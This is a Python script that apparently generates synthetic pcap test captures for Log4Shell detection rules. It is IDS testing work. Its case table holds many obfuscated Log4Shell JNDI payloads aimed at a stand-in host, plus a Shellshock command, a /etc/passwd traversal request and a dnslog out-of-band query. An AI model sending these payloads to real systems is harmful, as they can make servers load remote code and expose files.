#!/usr/bin/env python3
"""Writes the synthetic Log4Shell captures in tests/log4shell/synthetic/ (one TCP or UDP exchange
per file) for the forms the public captures lack: Cookie/Referer/X-Forwarded-For headers, request
bodies, URL-, double- and JSON-encoded lookups, base64 at the three alignments, every lookup
protocol, non-HTTP ports, a lookup split across two TCP segments, plus benign near misses and the
demo rules' triggers. Deterministic: the same bytes on every run (fixed addresses, ports, times).

    python3 tests/log4shell/make-synthetic.py [OUTDIR]

Only the standard library; no checksums are computed (run Suricata with -k none, as
../shared/tools/suricata-ref.sh does)."""
import base64
import os
import struct
import sys

CLI, SRV = bytes([192, 0, 2, 10]), bytes([198, 51, 100, 20])
T0 = 1700000000


def eth_ip(proto, src, dst, payload):
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(payload), 1, 0, 64, proto, 0, src, dst)
    return b'\x02\x00\x00\x00\x00\x02' + b'\x02\x00\x00\x00\x00\x01' + b'\x08\x00' + ip + payload


def tcp(src, dst, sport, dport, seq, ack, flags, data=b''):
    hdr = struct.pack('!HHIIBBHHH', sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    return eth_ip(6, src, dst, hdr + data)


def udp(src, dst, sport, dport, data):
    return eth_ip(17, src, dst, struct.pack('!HHHH', sport, dport, 8 + len(data), 0) + data)


def write_pcap(path, frames):
    with open(path, 'wb') as f:
        f.write(struct.pack('<IHHiIII', 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
        for i, fr in enumerate(frames):
            f.write(struct.pack('<IIII', T0, i * 1000, len(fr), len(fr)) + fr)


def tcp_session(dport, client_segs, server=b'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n'):
    SYN, ACK, PSH, FIN = 0x02, 0x10, 0x08, 0x01
    sport, cs, ss = 40000, 1000, 5000
    fr = [tcp(CLI, SRV, sport, dport, cs, 0, SYN),
          tcp(SRV, CLI, dport, sport, ss, cs + 1, SYN | ACK),
          tcp(CLI, SRV, sport, dport, cs + 1, ss + 1, ACK)]
    c, s = cs + 1, ss + 1
    for seg in client_segs:
        fr.append(tcp(CLI, SRV, sport, dport, c, s, PSH | ACK, seg))
        c += len(seg)
        fr.append(tcp(SRV, CLI, dport, sport, s, c, ACK))
    if server:
        fr.append(tcp(SRV, CLI, dport, sport, s, c, PSH | ACK, server))
        s += len(server)
        fr.append(tcp(CLI, SRV, sport, dport, c, s, ACK))
    fr += [tcp(CLI, SRV, sport, dport, c, s, FIN | ACK),
           tcp(SRV, CLI, dport, sport, s, c + 1, FIN | ACK),
           tcp(CLI, SRV, sport, dport, c + 1, s + 1, ACK)]
    return fr


def get(path, headers=(), method=b'GET'):
    h = b''.join(k + b': ' + v + b'\r\n' for k, v in headers)
    return method + b' ' + path + b' HTTP/1.1\r\nHost: victim.example\r\n' + h + b'Accept: */*\r\n\r\n'


def post(path, body, ctype=b'application/x-www-form-urlencoded', headers=()):
    h = b''.join(k + b': ' + v + b'\r\n' for k, v in headers)
    return (b'POST ' + path + b' HTTP/1.1\r\nHost: victim.example\r\n' + h + b'Content-Type: ' + ctype +
            b'\r\nContent-Length: ' + str(len(body)).encode() + b'\r\n\r\n' + body)


def basic(userpass):
    return (b'Authorization', b'Basic ' + base64.b64encode(userpass))


UA = (b'User-Agent', b'Mozilla/5.0 (X11; Linux x86_64)')

# name -> list of frames. s = should alert, n = must not alert (Log4j), d = demo rules
CASES = {
    's01-uri-raw-ldaps': tcp_session(80, [get(b'/?q=${jndi:ldaps://a.example/x}', [UA])]),
    's02-uri-pct-dns': tcp_session(80, [get(b'/?q=%24%7Bjndi%3Adns%3A%2F%2Fa.example%2Fx%7D', [UA])]),
    's03-uri-dblpct-iiop': tcp_session(80, [get(b'/?q=%2524%257Bjndi%253Aiiop%253A%252F%252Fa.example%252Fx%257D', [UA])]),
    's04-uri-mixed-http': tcp_session(8080, [get(b'/?q=$%7Bjndi:http://a.example/x%7D', [UA])]),
    's05-referer-pct-corba': tcp_session(80, [get(b'/', [UA, (b'Referer', b'http://v.example/?q=%24%7Bjndi%3Acorbaname%3A%3A%2F%2Fa.example%7D')])]),
    's06-cookie-raw-nds': tcp_session(80, [get(b'/', [UA, (b'Cookie', b'sid=1; lang=${jndi:nds://a.example/x}')])]),
    's07-cookie-pct-obf-nis': tcp_session(80, [get(b'/', [UA, (b'Cookie', b'lang=%24%7B%24%7Blower%3Aj%7Dndi%3Anis%3A%2F%2Fa.example%7D')])]),
    's08-xff-env-nan': tcp_session(80, [get(b'/', [UA, (b'X-Forwarded-For', b'${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//a.example/x}')])]),
    's09-xapi-upper-rmi': tcp_session(80, [get(b'/', [UA, (b'X-Api-Version', b'${${upper:j}ndi:rmi://a.example/x}')])]),
    's10-hdr-k8s': tcp_session(80, [get(b'/', [UA, (b'X-Request-Id', b'${j${k8s:k5:-ND}i:ldap://a.example/x}')])]),
    's11-ua-dotless-i': tcp_session(80, [get(b'/', [(b'User-Agent', '${jnd${upper:\u0131}:ldap://a.example/x}'.encode())])]),
    's12-referer-date': tcp_session(80, [get(b'/', [UA, (b'Referer', b"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://a.example/x}")])]),
    's13-body-json-raw': tcp_session(80, [post(b'/api/login', b'{"user":"${jndi:ldap://a.example/x}","pw":"x"}', b'application/json')]),
    's14-body-form-pct-obf': tcp_session(80, [post(b'/login', b'user=%24%7B%24%7B%3A%3A-j%7Dndi%3Aldap%3A%2F%2Fa.example%2Fx%7D&pw=x')]),
    's15-body-dblpct': tcp_session(80, [post(b'/login', b'user=%2524%257Bjndi%253Aldap%253A%252F%252Fa.example%252Fx%257D&pw=x')]),
    's16-body-json-unicode': tcp_session(80, [post(b'/api', b'{"user":"\\u0024\\u007bjndi:ldap://a.example/x}"}', b'application/json')]),
    's17-basic-b64-align0': tcp_session(80, [get(b'/', [UA, basic(b'ab:${jndi:ldap://a.example/x}')])]),
    's18-basic-b64-align1': tcp_session(80, [get(b'/', [UA, basic(b'abc:${jndi:ldap://a.example/x}')])]),
    's19-basic-b64-align2': tcp_session(80, [get(b'/', [UA, basic(b'abcd:${${lower:j}ndi:ldap://a.example/x}')])]),
    's20-smtp-port25': tcp_session(25, [b'EHLO x\r\n', b'MAIL FROM:<${jndi:ldap://a.example/x}@e.example>\r\n'], server=b'220 mx ESMTP\r\n'),
    's21-raw-port4444-obf': tcp_session(4444, [b'hello ${${lower:j}ndi:${lower:rmi}://a.example/x}\n'], server=b'ok\n'),
    's22-method-injection': tcp_session(80, [b'${jndi:ldap://a.example/x} / HTTP/1.1\r\nHost: v\r\n\r\n']),
    's23-scheme-obfuscated': tcp_session(80, [get(b'/', [(b'User-Agent', b'${jndi:${lower:l}${lower:d}a${lower:p}://a.example/x}')])]),
    's24-bare-jndi-url': tcp_session(80, [get(b'/', [(b'User-Agent', b'jndi:ldap://a.example:1389/a')])]),
    's25-udp-syslog': [udp(CLI, SRV, 40000, 514, b'<13>Nov 24 10:00:00 host app: login ${jndi:ldap://a.example/x}')],
    's26-split-segments': tcp_session(80, [b'GET / HTTP/1.1\r\nHost: v\r\nUser-Agent: ${jn', b'di:rmi://a.example/x}\r\n\r\n']),
    'n01-js-template-body': tcp_session(80, [post(b'/api', b'{"tpl":"`${user.name}: ${json.id}` ${a}:${b}","note":"jndi and ldap docs"}', b'application/json')]),
    'n02-pct-json-cookie': tcp_session(80, [get(b'/search?q=%24%7Bprice%7D&t=%7B%22a%22%3A1%7D', [UA, (b'Cookie', b'prefs=%7B%22theme%22%3A%22dark%22%7D'), (b'Referer', b'http://v.example/?j=1&n=2&d=3&i=4:5')])]),
    'n03-basic-auth-benign': tcp_session(80, [get(b'/', [UA, basic(b'alice:JHtq-not-really ${env:HOME}')])]),
    'n04-log4j-lookup-benign': tcp_session(80, [get(b'/', [(b'User-Agent', b'${java:version} ${sys:user.name} ${ctx:loginId}:${date:yyyy}')])]),
    'd01-id-root-response': tcp_session(4444, [b'id\n'], server=b'uid=0(root) gid=0(root) groups=0(root)\n'),
    'd02-shellshock-ua': tcp_session(80, [get(b'/cgi-bin/status', [(b'User-Agent', b'() { :; }; /bin/bash -c "id"')])]),
    'd03-traversal-passwd': tcp_session(80, [get(b'/static/..%2f..%2f..%2f..%2fetc/passwd', [UA])]),
    'd04-dns-oob-dnslog': [udp(CLI, SRV, 40001, 53, bytes.fromhex('abcd01000001000000000000') +
                               b'\x03abc\x06dnslog\x02cn\x00\x00\x01\x00\x01')],
}

if __name__ == '__main__':
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), 'synthetic')
    os.makedirs(out, exist_ok=True)
    for name, frames in CASES.items():
        write_pcap(os.path.join(out, name + '.pcap'), frames)
    print('%d captures in %s' % (len(CASES), out))
